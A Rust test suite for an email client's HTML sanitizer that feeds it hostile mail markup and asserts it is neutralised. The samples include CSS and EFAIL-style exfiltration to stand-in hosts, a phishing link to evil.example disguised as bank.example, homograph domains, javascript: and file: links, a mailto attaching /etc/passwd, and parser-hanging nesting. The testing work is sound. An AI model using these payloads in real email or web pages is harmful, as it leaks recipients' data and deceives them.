//! Mails made to leak, to run, to hang and to deceive. The rows of the shared list drive which checks there must be; the
//! checks are our own and run without it.

#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::print_stdout,
    reason = "every function here is a test's"
)]

#[allow(dead_code, reason = "each test file uses its part of it")]
use crate::kit::{GIF, assert_safe, body, clean, fixture, lines, part, tags};
use threadline_html::link::link_host;

type Check = (&'static str, &'static str, fn());

const CHECKS: &[Check] = &[
    ("html-leak", "38 vectors of Email Privacy Tester", nothing_is_loaded),
    (
        "html-leak",
        "CSS exfil: attribute selectors, @font-face unicode-range, @import chains, :visited, container/style queries, url() in var()",
        styles_tell_nothing,
    ),
    ("html-leak", "EFAIL direct exfil: unclosed <img src=\"http://x/ across MIME parts", parts_stay_apart),
    ("html-leak", "cid: and data: as vectors: svg via cid, data:text/html iframe", only_raster_pictures),
    ("html-xss", "ammonia RUSTSEC set", nothing_runs),
    ("html-dos", "50000 nested <div> (250 KB)", nothing_hangs),
    (
        "html-spoof",
        "position:fixed / z-index overlay, font-size:0, display:none text, @media-dependent text, link text != href, homograph, form, base href, meta refresh, target, mailto with attach, tel:, file:, smb:, custom schemes",
        nothing_deceives,
    ),
];

/// Rows that are checked where their text comes in.
const ELSEWHERE: &[(&str, &str)] = &[
    ("greeting ALERT / BADCHARSET / PARSE (OK and NO)", "../mail/tests/it/hostile/mod.rs"),
    ("LIST name with markup", "../mail/tests/it/hostile/mod.rs"),
];

#[test]
fn nothing_is_loaded() {
    let text = fixture("leaks.txt");
    let mut vectors = 0;
    for line in lines(&text) {
        let (pictures, html) = line.split_once(' ').unwrap();
        let shown = threadline_html::clean(html, &[]);
        assert!(!shown.html.contains("leak.example"), "{html}\n{}", shown.html);
        assert_safe(body(&shown));
        assert_eq!(shown.blocked_pictures.to_string(), pictures, "{html}");
        vectors += 1;
    }
    assert!(vectors >= 38, "only {vectors} vectors were read");
}

#[test]
fn styles_tell_nothing() {
    let html = "<style>@import 'https://x.example/a';a[href*=b]{background:url(//x.example)}</style>\
                <p style=\"--u:url(//x.example);background:var(--u);color:red\">text</p>";
    assert_eq!(clean(html), "<p style=\"color:#ff0000\">text</p>");
}

#[test]
fn parts_stay_apart() {
    // An encrypted part after this one would be its address, were the two put together.
    for html in [
        "before<img src=\"http://x.example/",
        "before<img src='http://x.example/?\n",
        "before<a href=\"http://x.example/",
    ] {
        assert_eq!(clean(html), "before", "{html}");
    }
}

#[test]
fn only_raster_pictures() {
    let svg = b"<svg xmlns='http://www.w3.org/2000/svg'><image href='http://x.example/'/></svg>";
    let inline = [part("gif@x", GIF), part("svg@x", svg), part("html@x", b"<img src=http://x.example>")];
    let html = "<img src=\"cid:gif@x\"><img src=\"cid:svg@x\"><img src=\"cid:html@x\">\
                <img src=\"data:image/gif;base64,R0lGOD\"><iframe src=\"data:text/html,x\"></iframe>";
    let shown = threadline_html::clean(html, &inline);
    assert_safe(body(&shown));
    assert_eq!(tags(body(&shown)).len(), 1, "{}", shown.html);
    assert_eq!(shown.blocked_pictures, 3);
}

#[test]
fn nothing_runs() {
    let text = fixture("scripts.txt");
    for line in lines(&text) {
        assert_safe(&clean(line));
        assert_safe(&clean(&format!("<table><td>{line}<p>{line}")));
    }
    assert!(lines(&text).count() > 40);
}

/// How long it takes is a figure of the benchmark `html`; here the result must stay small.
#[test]
fn nothing_hangs() {
    let fonts: String = (0..500).map(|i| format!("<font size={}>", i % 8)).collect();
    for html in [
        "<div>".repeat(50_000) + "the end",
        "<b>".repeat(20_000) + "the end",
        "<table><tr><td>".repeat(5_000) + "the end",
        format!("<p>{fonts}{}the end", "<p>".repeat(20_000)),
        format!("<table>{fonts}{}the end", "<tr>x".repeat(10_000)),
        format!("{fonts}{}the end", "<li>x</b>".repeat(10_000)),
        format!("{}the end", "<a href=http://x.example/><div>".repeat(4_000)),
        "</p>".repeat(60_000) + "the end",
    ] {
        let shown = threadline_html::clean(&html, &[]);
        assert!(shown.html.contains("the end"), "{html:.60}");
        assert!(shown.html.len() < 6 * html.len(), "{} bytes of {html:.60}", shown.html.len());
        assert_safe(body(&shown));
    }
}

#[test]
fn nothing_deceives() {
    let shown = |html: &str| clean(html);
    // What lies over others, and what hides.
    assert_eq!(shown("<div style=\"position:fixed;z-index:9;top:0\">x</div>"), "<div>x</div>");
    assert_eq!(shown("<span style=\"font-size:0;display:none\" hidden>x</span>"), "<span>x</span>");
    assert_eq!(shown("<span style=\"color:#fff\">x</span>"), "<span>x</span>");
    assert_eq!(shown("<font color=white>x</font>"), "<font>x</font>");
    assert_eq!(shown("<style>@media print{p{display:none}}</style><p>x</p>"), "<p>x</p>");
    assert_eq!(shown("<details><summary>a</summary>b</details><template>c</template>"), "abc");
    // What asks, and what leads away.
    assert_eq!(shown("<form action=x><input name=password>x<button>y</button></form>"), "xy");
    assert_eq!(shown("<base href=\"https://x.example/\"><meta http-equiv=refresh content=0>"), "");
    let link = shown("<a href=\"https://evil.example/\" target=_top title=bank.example>bank.example</a>");
    assert!(link.contains("title=\"evil.example\"") && link.contains("target=\"_blank\""), "{link}");
    assert!(
        link.contains("rel=\"noopener noreferrer nofollow\"") && link.contains(">bank.example</a>"),
        "{link}"
    );
    assert_eq!(link_host("https://b\u{430}nk.example/").as_deref(), Some("xn--bnk-6cd.example"));
    for address in ["tel:1", "file:///x", "smb://x/y", "ms-word:x", "javascript:x", "/x", "x"] {
        let link = shown(&format!("<a href=\"{address}\">text</a>"));
        assert!(!link.contains("href") && link.contains(">text</a>"), "{link}");
    }
    let mail = shown("<a href=\"mailto:a@x.example?attach=/etc/passwd\">text</a>");
    assert!(mail.contains("href=\"mailto:a@x.example\""), "{mail}");
    // Text that reads backwards.
    assert_eq!(shown("a\u{202e}b<bdo dir=rtl>c</bdo>"), "abc");
}

#[derive(serde::Deserialize)]
struct Row {
    id: String,
    area: String,
    name: String,
}

#[test]
fn every_row_of_the_list_has_a_check_that_holds() {
    let file = concat!(env!("CARGO_MANIFEST_DIR"), "/../../../../shared/data/hostile/cases.jsonl");
    let Ok(text) = std::fs::read_to_string(file) else {
        println!(
            "hostile html: SKIPPED, the shared list is not here; {} checks ran on their own",
            CHECKS.len()
        );
        return;
    };
    let rows: Vec<Row> = text
        .lines()
        .filter(|line| !line.trim().is_empty())
        .map(|line| serde_json::from_str(line).unwrap())
        .filter(|row: &Row| row.area.starts_with("html") || row.area.starts_with("ui"))
        .collect();
    let (mut held, mut elsewhere) = (0, 0);
    for row in &rows {
        if let Some((name, place)) = ELSEWHERE.iter().find(|(name, _)| *name == row.name) {
            let source = std::fs::read_to_string(format!("{}/{place}", env!("CARGO_MANIFEST_DIR"))).unwrap();
            assert!(source.contains(name), "{} {name}: {place} has no check of it", row.id);
            elsewhere += 1;
            continue;
        }
        let check = CHECKS.iter().find(|(area, name, _)| *area == row.area && *name == row.name);
        let (_, _, run) = check.unwrap_or_else(|| panic!("{} {}: {}: no check", row.id, row.area, row.name));
        run();
        held += 1;
    }
    println!("hostile html: {held} of {} rows hold here, {elsewhere} are checked in mail", rows.len());
    assert!(held > 0);
}
